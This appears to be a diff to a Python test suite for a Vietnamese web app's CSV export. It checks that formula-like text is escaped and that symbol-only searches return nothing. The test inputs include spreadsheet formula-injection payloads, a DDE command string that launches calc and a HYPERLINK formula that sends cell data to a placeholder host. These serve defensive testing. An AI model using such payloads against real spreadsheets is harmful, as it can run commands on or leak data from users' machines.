@@ -86,9 +86,15 @@ async def test_what_comes_back_from_a_workbook_is_what_went_in() -> None:
         ("+84912345678", "'+84912345678"),
         ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
         ("@SUM(A1)", "'@SUM(A1)"),
-        ("\t=1+1", "'\t=1+1"),
-        ("\r=1+1", "'\r=1+1"),
+        ("\t=1+1", "'\t'=1+1"),
+        ("\r=1+1", "'\r'=1+1"),
         ("1 = 1", "1 = 1"),
+        ('Xin hỏi,=HYPERLINK("http://x/?"&A1)', """Xin hỏi,'=HYPERLINK("http://x/?"&A1)"""),
+        ("một; +2", "một; '+2"),
+        ('một\n "-2', """một\n "'-2"""),
+        ("một|@hai", "một|'@hai"),
+        ("từ 1 - 2, 3", "từ 1 - 2, 3"),
+        ("ai@xa.example, anh", "ai@xa.example, anh"),
     ],
 )
 async def test_no_text_is_a_formula(text: str, shown: str) -> None:
@@ -221,6 +227,9 @@ async def test_a_file_has_the_filters_of_its_page(tmp_path: Path) -> None:
     land = cells((await got(tmp_path, f"/cau-hoi.csv?loc=tat-ca&phong={scene.LAND}")).content)[1:]
     found = cells((await got(tmp_path, "/cau-hoi.csv?loc=tat-ca&phong=&tim=thoat+nuoc")).content)[1:]
     assert (len(every), len(land), len(found)) == (10, 4, 2)
+    for nothing in ("%21%21%21", "-", "%22", "%F0%9F%98%80"):
+        typed = await got(tmp_path, f"/cau-hoi.csv?loc=tat-ca&phong=&tim={nothing}")
+        assert cells(typed.content)[1:] == [], "what no word can say finds nothing, and not everything"
     assert {row[7] for row in land} == {"Phòng Kinh tế"}
     assert all("thoát nước" in row[5] for row in found)
 
